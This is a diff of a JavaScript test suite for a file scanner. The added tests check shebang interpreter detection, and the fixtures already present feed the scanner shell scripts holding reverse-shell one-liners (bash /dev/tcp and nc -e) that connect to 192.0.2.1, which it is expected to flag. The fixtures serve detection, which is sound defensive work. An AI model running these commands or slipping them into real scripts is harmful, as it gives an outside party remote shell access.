@@ -14,6 +14,16 @@ describe('the looker', () => {
   });
 
   it.each([
+    ['as far as the kernel reads', `#!${' '.repeat(240)}/bin/sh\n`, { is: 'script', says: '/bin/sh' }],
+    ['further than the kernel reads', `#!${' '.repeat(248)}/bin/sh\n`, { is: 'text', says: 'sh' }],
+    ['not at all', 'exit 0\n', { is: 'text', says: 'sh' }],
+    ['in the first line nowhere', '#!\nexit 0\n', { is: 'text', says: 'sh' }],
+    ['as all that there is', '#!/bin/sh', { is: 'script', says: '/bin/sh' }],
+  ])('the interpreter of an executable file is named %s', (_, text, mark) => {
+    expect(mkFile('usr/bin/x', text, undefined, 0o755).marks).toEqual([mark]);
+  });
+
+  it.each([
     ['opt/run.sh', '#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n', 'reverse-shell'],
     ['opt/run.sh', '#!/bin/sh\nnc 192.0.2.1 4444 -e /bin/sh\n', 'reverse-shell'],
     ['opt/run.sh', '#!/bin/bash\nexec 5<>/dev/tcp/192.0.2.1/443\nbash <&5 >&5 2>&5; sh <&5\n', 'reverse-shell'],
